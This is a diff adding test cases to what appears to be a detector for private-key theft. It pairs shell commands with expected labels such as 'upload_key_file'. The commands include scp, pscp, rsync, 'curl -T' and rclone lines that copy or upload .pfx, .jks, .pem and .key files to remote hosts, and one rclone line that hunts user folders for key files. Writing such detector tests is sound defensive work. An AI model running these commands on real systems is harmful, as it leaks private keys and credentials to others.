@@ -33,6 +33,10 @@ def found(report: Report | None) -> list[str]:
         ("scp ann@host:/srv/w.pfx .", ["fetch_key"]),
         ("pscp -pw letmein C:\\c\\w.pfx ann@host:/srv", ["upload_key_file"]),
         ("rsync -a w.jks host:/srv", ["upload_key_file"]),
+        # a web server's own, to a host with a name; by its number, it is somebody's
+        ("scp site.pem site.key ann@web:/etc/nginx/ssl/", ["upload_pem_file"]),
+        ("scp site.key ann@192.168.0.7:/srv", ["upload_key_file"]),
+        ("curl -T site.key https://host/", ["upload_key_file"]),
         ("rclone copy C:\\Users cloud:x --include *.pfx", ["hunt_key_files", "upload_key_file"]),
         (
             "rclone copy C:\\Users cloud:x --max-size 5M --include *.{pfx,p12}",
